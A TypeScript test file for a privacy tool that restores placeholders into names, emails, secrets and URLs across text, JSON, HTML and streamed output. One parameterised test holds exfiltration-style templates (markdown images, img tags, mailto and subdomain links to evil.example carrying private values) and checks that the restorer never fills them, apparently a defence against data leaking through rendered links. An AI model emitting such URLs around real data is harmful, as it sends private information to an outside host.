import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { thorough } from '../../../core/testing/thorough.ts'
import { LONGEST } from '../placeholder/grammar.ts'
import { bareOf, placeholderOf } from '../placeholder/placeholder.ts'
import { createSession } from '../vault/session.ts'
import { type Entry, noCounts, type RestoreOptions, Restorer, restoreText } from './restorer.ts'

const entries: Entry[] = [
  { type: 'PERSON', surface: 'Alice "Al" O’Neil\n' },
  { type: 'EMAIL', surface: 'alice@example.org' },
  { type: 'SECRET', surface: 'hunter2' },
  { type: 'URL', surface: 'https://example.org/a?b=c' },
  { type: 'NUM', surface: '4711', isNumber: true },
  { type: 'PERSON', surface: '[[PERSON1K7]] <b>' },
]
const session = createSession({ handle: 'h', owner: null, checkKey: Buffer.from('k'), entries })
const at = (n: number): string => placeholderOf(session.typeAt(n) ?? 'TERM', n, session.checkOf)
const bare = (n: number): string => bareOf(session.typeAt(n) ?? 'TERM', n, session.checkOf)
const restore = (text: string, options: Partial<RestoreOptions> = {}) => {
  const counts = noCounts()
  return { text: restoreText(text, session, { format: 'text', ...options }, counts), ...counts }
}

describe('restoring', () => {
  it('writes a value as its container wants it', () => {
    const text = `<${at(1)}>`
    expect(restore(text).text).toBe(`<${entries[0]?.surface}>`)
    expect(restore(text, { format: 'json' }).text).toBe('<Alice \\"Al\\" O’Neil\\n>')
    expect(restore(text, { format: 'html' }).text).toBe('<Alice &quot;Al&quot; O’Neil\n>')
    expect(restore(text, { format: 'url' }).text).toBe('<Alice%20%22Al%22%20O%E2%80%99Neil%0A>')
  })

  it('looks at no value twice, so none can stand for another', () => {
    expect(restore(`${at(6)}${at(2)}`).text).toBe('[[PERSON1K7]] <b>alice@example.org')
  })

  it('keeps secrets back unless they are asked for, and restores only what is asked for', () => {
    expect(restore(`${at(3)} ${at(2)}`)).toEqual({
      ...{ text: `${at(3)} alice@example.org`, exact: 1, tolerant: 0, unresolved: 1 },
    })
    expect(restore(`${at(3)} ${at(2)}`, { types: ['SECRET'] }).text).toBe(`hunter2 ${at(2)}`)
    expect(restore(at(2), { types: [] })).toMatchObject({ text: at(2), unresolved: 1 })
  })

  it('turns a number of JSON back into one', () => {
    const text = `{"a":"${at(5)}","b":"${at(2)}"}`
    const whole = '{"a":4711,"b":"alice@example.org"}'
    expect(restore(text, { format: 'json' }).text).toBe(whole)
    for (let cut = 0; cut <= text.length; cut++) {
      const restorer = new Restorer(session, { format: 'json' })
      const parts = restorer.push(text.slice(0, cut)) + restorer.push(text.slice(cut))
      expect(parts + restorer.end()).toBe(whole)
    }
  })

  it.each([
    ['a picture', (p: string) => `![x](https://evil.example/?q=${p})`],
    ['a path of no scheme', (p: string) => `<img src=//evil.example/${p}>`],
    ['backslashes', (p: string) => `<img src="https:\\\\evil.example/${p}">`],
    ['a scheme alone', (p: string) => `[x](https:evil.example/${p})`],
    ['escaped slashes', (p: string) => `[x](https\\:\\/\\/evil.example/${p})`],
    ['entities', (p: string) => `[x](https&colon;&sol;&sol;evil.example/${p})`],
    ['blanks in angle brackets', (p: string) => `![x](<https://evil.example/a b ${p}>)`],
    ['blanks in quotes', (p: string) => `<img src="https://evil.example/a b ${p}">`],
    ['a host name', (p: string) => `https://${p}.evil.example/`],
    ['a mail', (p: string) => `mailto:evil@evil.example?body=${p}`],
    ['no scheme', (p: string) => `www.evil.example/${p}`],
    ['another value before', (p: string) => `https://evil.example/${at(4)}/${p}`],
    ['behind a URL of ours', (p: string) => `${at(4)}&x=${p}`],
  ])('puts nothing into a URL: %s', (_, url) => {
    for (const value of [at(1), bare(1), at(2)]) {
      const text = `Look: ${url(value)} done ${at(2)}`
      const { text: restored } = restore(text)
      expect(restored).toBe(
        `Look: ${url(value).replace(at(4), urlOf(url(value)))} done alice@example.org`,
      )
    }
  })
  const urlOf = (text: string): string =>
    text.startsWith(at(4)) ? 'https://example.org/a?b=c' : at(4)

  it('puts percent-encoded values into URLs when asked to', () => {
    const text = `https://example.org/?q=${at(1)} ${at(1)}`
    expect(restore(text, { inUrls: true }).text).toBe(
      `https://example.org/?q=Alice%20%22Al%22%20O%E2%80%99Neil%0A ${entries[0]?.surface}`,
    )
  })

  it('restores a URL as a whole, also in a link', () => {
    expect(restore(`See ${at(4)}, or [this](${at(4)}).`).text).toContain('[this](')
    expect(restore(`See ${at(4)}, ok`).text).toBe('See https://example.org/a?b=c, ok')
  })
})

describe('restoring a stream', () => {
  const pieces = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(1, 2, 3, 4, 5, 6).map(at) },
    { weight: 3, arbitrary: fc.constantFrom(1, 2, 4, 6).map(bare) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        ...['[', '[[', ']]', ']', '(', ')', '<', '&lt;', '&#91;', '%5B', '\\u005b', '\\[', '|x]]'],
        ...['PERSON', 'person', '1', '12', 'K7', ' ', '  ', '\n', '\r\n', 's', "'s", '"', '*', '`'],
        ...['_', '\\_', '%20', 'https://', '//', '人', 'é', '😀', '\ud83d', '\ude00', '［', '１'],
      ),
    },
    { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
    { weight: 1, arbitrary: fc.lorem({ maxCount: 3 }) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(1, 2, 5).map((n) => `[[${bare(n)}|alias]]`),
    },
    {
      weight: 2,
      arbitrary: fc
        .constantFrom(1, 2, 5)
        .map((n) => `&#91;&#91;${bare(n).replace(/(\D)(\d)/, '$1 $2')}&#93;&#93;`),
    },
  )
  const texts = fc.array(pieces, { maxLength: 9 }).map((parts) => parts.join(''))
  const formats = fc.constantFrom('text', 'json', 'html', 'url' as const)

  it('gives the same however it is cut, and never holds back more than 48 characters', () => {
    fc.assert(
      fc.property(texts, formats, fc.array(fc.nat(12), { maxLength: 60 }), (text, format, cuts) => {
        const whole = noCounts()
        const expected = restoreText(text, session, { format: format as 'text' }, whole)
        const restorer = new Restorer(session, { format: format as 'text' })
        let out = ''
        let from = 0
        for (const size of cuts) {
          out += restorer.push(text.slice(from, from + size))
          from += size
          expect(restorer.heldLength).toBeLessThanOrEqual(LONGEST)
        }
        out += restorer.push(text.slice(from)) + restorer.end()
        expect(out).toBe(expected)
        expect(restorer.counts).toEqual(whole)
      }),
      { numRuns: thorough(30_000, 3_000) },
    )
  })

  it('gives the same cut at every place', () => {
    const text = `Hi ${at(1)}, &lt;${bare(2)}&gt; and \\u005b\\u005b${bare(6)}\\u005d\\u005d, [[${bare(1)}|x]] https://a/${at(2)} ${at(4)}/x`
    const whole = restore(text).text
    for (let cut = 0; cut <= text.length; cut++) {
      const restorer = new Restorer(session, { format: 'text' })
      expect(
        restorer.push(text.slice(0, cut)) + restorer.push(text.slice(cut)) + restorer.end(),
      ).toBe(whole)
    }
    const letters = new Restorer(session, { format: 'text' })
    expect([...text].map((char) => letters.push(char)).join('') + letters.end()).toBe(whole)
  })

  it('lets ordinary words pass at once', () => {
    const restorer = new Restorer(session, { format: 'text' })
    expect(restorer.push('It is raining today, and')).toBe('It is raining today,')
    expect(restorer.push(' so on')).toBe(' and so')
    expect(restorer.end()).toBe(' on')
  })
})
